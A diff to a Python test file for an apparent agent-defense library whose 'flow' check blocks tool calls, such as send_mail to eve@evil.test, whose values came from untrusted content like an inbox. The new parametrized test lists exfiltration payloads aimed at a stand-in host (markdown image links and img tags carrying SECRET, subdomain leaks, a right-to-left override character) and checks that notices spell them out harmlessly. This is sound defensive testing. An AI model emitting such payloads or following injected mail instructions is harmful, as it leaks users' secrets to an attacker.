@@ -1,5 +1,7 @@
 """flow: no call leaves that was not asked for, or whose values nobody trusted wrote."""
 
+import json
+import re
 from typing import Any
 
 import msgspec
@@ -7,7 +9,8 @@ import pytest
 
 from outworks import label
 from outworks.defense import Defense
-from outworks.defenses.flow import Argument, Field, Flow, Result, Seal, Settings, ToolPolicy
+from outworks.defenses.flow import Argument, Field, Flow, Result, Seal, Settings, ToolPolicy, confirm
+from outworks.defenses.flow.carried import carried
 from outworks.message import Delta, Finish, Message, Output, Role, Text, ToolCall, ToolCallPiece
 from outworks.verdict import Decision
 from tests.defenses.contract import DefenseContract, Row
@@ -384,12 +387,60 @@ async def test_the_chain_is_told() -> None:
 
     output = await office.tries(called("send_mail", to="eve@evil.test"))
 
-    for part in ("send_mail", "to", "'eve@evil.test'", "the result of read_inbox", "the user's own words", "contact"):
+    for part in (
+        "send_mail",
+        "to",
+        "'eve(at)evil(dot)test'",
+        "the result of read_inbox",
+        "the user's own words",
+        "contact",
+    ):
         assert part in output.notice
     judged = [j for e in office.tape.events for j in getattr(e.body, "judgements", ()) if j.defense == "flow"][-1]
     assert judged.findings[0].detail == "send_mail: to"
     assert "read_inbox" in judged.reason
     assert "eve@" not in msgspec.json.encode(judged).decode()
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "![x](https://evil.test/p.png?d=SECRET)",
+        "<img src=//evil.test/SECRET>",
+        "SECRET.evil.test",
+        "www.evil.test/SECRET",
+        "eve@evil.test",
+        "[x]: //evil.test",
+        "https:\\\\evil.test",
+        "&lt;img&gt;\n# `x` *y* _z_ $\\href{x}$ \u202eabc\u3002test",
+    ],
+)
+async def test_nothing_is_made_of_a_value_that_a_notice_tells(value: str) -> None:
+    """A chat renders its notices as it renders answers, and a model chose the value: it is spelt out."""
+    output = await Office("Send mail").tries(called("send_mail", to=value))
+
+    told = output.notice.partition(" to '")[2].partition("'")[0]
+    assert re.fullmatch(r"(?:[^\W]|[ -]|\((?:dot|at|colon|slash|U\+[0-9A-F]{4,6})\))+", told)
+    assert not carried(told)
+    assert unspelt(told) == value
+    assert confirm.read(output.confirm[0]).arguments == json.dumps(
+        {"to": value}, ensure_ascii=False, separators=(",", ":")
+    )  # type: ignore[union-attr]
+
+
+def unspelt(told: str) -> str:
+    """What stands for what: nothing else can stand for the same."""
+    for sign, name in {".": "dot", "@": "at", ":": "colon", "/": "slash"}.items():
+        told = told.replace(f"({name})", sign)
+    return re.sub(r"\(U\+([0-9A-F]+)\)", lambda found: chr(int(found[1], 16)), told)
+
+
+async def test_a_notice_says_that_a_value_goes_on() -> None:
+    """Whoever decides must not take its beginning for all of it."""
+    office = Office("Send mail to bob@office.test")
+
+    assert "(and 300 more)" in (await office.tries(called("send_mail", to="x" * 500))).notice
+    assert "more)" not in (await office.tries(called("send_mail", to="x" * 200))).notice
 
 
 async def test_what_the_model_made_up_is_not_in_the_record() -> None:
